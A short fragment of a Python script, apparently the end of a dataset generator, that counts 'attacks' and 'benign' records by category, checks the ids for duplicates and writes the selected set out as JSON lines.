        from collections import Counter
        a, b = attacks(), benign()
        sys.stderr.write("attacks %d %s\n" % (len(a), dict(Counter(x["category"] for x in a).most_common())))
        sys.stderr.write("benign %d %s\n" % (len(b), dict(Counter(x["category"] for x in b).most_common())))
        ids = [x["id"] for x in a + b]
        assert len(ids) == len(set(ids)), "duplicate ids"
        return
    for d in (attacks() if sys.argv[1] == "attacks" else benign()):
        sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
